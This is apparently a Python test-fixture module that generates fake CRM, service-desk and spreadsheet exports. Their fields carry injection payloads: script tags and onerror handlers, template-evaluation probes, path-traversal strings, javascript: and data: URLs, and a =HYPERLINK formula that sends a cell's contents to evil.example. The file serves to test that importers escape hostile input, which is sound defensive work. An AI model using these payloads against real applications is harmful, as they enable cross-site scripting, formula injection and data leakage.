"""Export files whose every text tries something: markup, formulas and templates where names and words belong."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

import openpyxl

#: What stands in texts of exports; ``evil`` as element and attribute tells where it got through.
MARKUP = "\"><evil-tag>'</title></script><script>evil()</script><img src=x onerror=evil()>"
TEMPLATE = "{{ 1234*4321 }}${1234*4321}{% raw %}%s%(x)s{0}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"evil")'
#: What a template that was worked out would show.
WORKED_OUT = "5332114"
ALL = f"{MARKUP}{TEMPLATE}"
GIVEN = ("Quirina", "Ottokar", "Ysolde", "Thaddäus", "Wendelgard", "Zebulon")
FAMILY = ("Vornhagen", "Brzeczek", "Ixelmann", "Ødegaard-Quast", "Jagielnik", "Fuchslocher")
PEOPLE = tuple((given, family) for given in GIVEN for family in FAMILY)
COMPANIES = 12
#: Names of files and sheets.
FILE = "<img src=x onerror=evil()>{{1234*4321}}.csv"
SUM = '=HYPERLINK("evil").csv'
SHEET = "<img src=x onerror=evil()>"


def mail(n: int) -> str:
    """The address of a person."""
    return f"{letters(PEOPLE[n][0])}.{letters(PEOPLE[n][1])}@firm{n % COMPANIES}.example"


def handle(n: int) -> str:
    """The handle of a person."""
    return f"{letters(PEOPLE[n][1])}_{letters(PEOPLE[n][0])}_{n}"


def phone(n: int) -> str:
    """The number of a person's telephone."""
    return f"+49 30 77{n:02d}4{n:02d}"


def contacts() -> bytes:
    """Contacts of a CRM: each person with a name, half of them hostile behind it, and one a second time elsewhere."""
    header = [
        "Record ID", "First Name", "Last Name", "Email", "Phone Number", "Job Title", "Company name", "Contact owner",
        "Create Date", "Became a Lead Date", "Original Source", "LinkedIn URL", "Twitter Username",
    ]  # fmt: skip
    rows = []
    for n, (given, family) in enumerate(PEOPLE):
        more = (" " + (MARKUP, TEMPLATE, FORMULA)[n % 3]) if n % 2 else ""
        rows.append(
            (5200000 + n, given, family + more, mail(n), phone(n), ALL, company(n), "Sam " + MARKUP,
             f"2025-01-{1 + n % 28:02d}", f"2025-01-{1 + n % 28:02d}", "Organic Social",
             f"https://www.linkedin.com/in/{handle(n)}", handle(n))
        )  # fmt: skip
    # nobody knows if these are the same as the first ones: they wait for a decision
    rows += [
        (5300000 + n, *PEOPLE[n], f"{letters(PEOPLE[n][1])}@else{n}.example", "", MARKUP, company(n), "", "2025-02-01",
         *[""] * 4)
        for n in range(0, len(PEOPLE), 2)
    ]  # fmt: skip
    return table(header, rows)


def companies() -> bytes:
    """Companies of a CRM."""
    header = [
        "Record ID", "Company name", "Company Domain Name", "Company owner", "Industry", "Number of Employees",
        "Create Date"
    ]  # fmt: skip
    rows = [
        (8800000 + n, company(n), f"firm{n}.example", "Sam", ALL, 10 + n, "2024-01-01")
        for n in range(COMPANIES)
    ]  # fmt: skip
    return table(header, rows)


def company(n: int) -> str:
    """What a company is called."""
    return f"{('=', '@', '', '')[n % 4]}Firm{n % COMPANIES} {(MARKUP, TEMPLATE, '', ALL)[n % 4]}".strip()


def opportunities() -> bytes:
    """Deals of a CRM."""
    header = [
        "Opportunity ID", "Opportunity Owner", "Account ID", "Account Name", "Website", "Opportunity Name", "Stage",
        "Amount", "Close Date", "Created Date", "Lead Source", "Type", "Industry", "Product Name", "Loss Reason",
    ]  # fmt: skip
    rows = [
        (f"0065g00000000{n:02d}", "Sam " + MARKUP, f"0015g00000000{n % COMPANIES:02d}", company(n % COMPANIES),
         f"https://www.firm{n % COMPANIES}.example", f"Deal {n} {ALL}", "Closed Won" if n % 3 else "Closed Lost", 999,
         f"{4 + n % 8}/{1 + n % 28}/2025", f"{1 + n % 3}/7/2025", MARKUP, TEMPLATE, ALL, FORMULA, MARKUP)
        for n in range(40)
    ]  # fmt: skip
    return table(header, rows)


def roles() -> bytes:
    """Who takes part in which deal."""
    header = [
        "Opportunity ID", "Opportunity Name", "Account Name", "Contact ID", "First Name", "Last Name", "Email",
        "Title", "Role"
    ]  # fmt: skip
    rows = [
        (f"0065g00000000{n:02d}", f"Deal {n} {ALL}", company(n % COMPANIES), f"0035g00000000{n:02d}", *PEOPLE[n],
         mail(n), MARKUP, ALL)
        for n in range(len(PEOPLE))
    ]  # fmt: skip
    return table(header, rows)


def tickets() -> bytes:
    """Requests to a service desk, whose subjects name people."""
    header = [
        "Id", "Requester", "Requester id", "Requester external id", "Requester email", "Requester domain", "Submitter",
        "Assignee", "Group", "Subject", "Tags", "Status", "Priority", "Via", "Ticket type", "Created at", "Updated at",
        "Assigned at", "Organization", "Solved at", "Satisfaction Score", "Reopens", "Replies",
    ]  # fmt: skip
    rows = []
    for n in range(30):
        subject = f"{' '.join(PEOPLE[n])} {mail(n)} {phone(n)} {ALL}"
        rows.append(
            (10000 + n, " ".join(PEOPLE[n]), 3600 + n, "", mail(n), "", "", "Omar " + MARKUP, MARKUP, subject, ALL,
             "Solved", "Low", MARKUP, "Question", f"2025-03-{1 + n % 28:02d} 09:42", f"2025-03-{1 + n % 28:02d} 10:42",
             "", company(n), f"2025-03-{1 + n % 28:02d} 11:42", "Good", 0, 1)
        )  # fmt: skip
    return table(header, rows)


def posts() -> bytes:
    """What people wrote."""
    rows = [
        (f"post{n}", f"2025-02-{1 + n % 28:02d}", mail(n % 36), f"{' '.join(PEOPLE[n % 36])} {ALL}", f"{FORMULA} {ALL}",
         f"https://ours.example/?e={mail(n % 36)}&{MARKUP}", ALL)
        for n in range(40)
    ]  # fmt: skip
    return table(["id", "day", "who", "title", "body", "page", "campaign"], rows)


def acts() -> bytes:
    """What people did; some of the addresses are script."""
    pages = (
        f"javascript:evil()//{MARKUP}",
        f"https://ours.example/?e={mail(3)}&x={MARKUP}",
        "data:text/html,<script>evil()</script>",
    )
    rows = [
        (f"act{n}{MARKUP}", f"2025-{1 + n % 6:02d}-{1 + n % 28:02d}", mail(n % 36), f"post{n % 40}", pages[n % 3], ALL)
        for n in range(240)
    ]  # fmt: skip
    return table(["id", "day", "who", "post", "page", "campaign"], rows)


def handles() -> bytes:
    """What people did under names of their own choice."""
    odd = (MARKUP, TEMPLATE, FORMULA, "../../etc/passwd", "a b?c=d#e", "%00%2e%2e", "x" * 300)
    rows = [
        (
            f"h{n}",
            f"2025-04-{1 + n % 28:02d}",
            odd[n % 12] if n % 12 < len(odd) else f"@{handle(n % 36)}@social.example",
        )
        for n in range(60)
    ]
    return table(["id", "day", "who"], rows)


def book() -> bytes:
    """A workbook whose sheets are called what they should not be."""
    made = openpyxl.Workbook()
    first = made.active
    assert first is not None
    first.title = SHEET
    first.append(["Id", MARKUP])
    first.append([FORMULA, ALL])
    made.create_sheet("{{ lipsum }}").append([TEMPLATE, FORMULA])
    into = io.BytesIO()
    made.save(into)
    return into.getvalue()


def table(header: Sequence[object], rows: Sequence[Sequence[object]]) -> bytes:
    """A table as CSV."""
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    return text.getvalue().encode()


def letters(name: str) -> str:
    plain = name.lower().replace("ä", "ae").replace("ø", "oe")
    return "".join(c for c in plain if c.isascii() and c.isalpha())
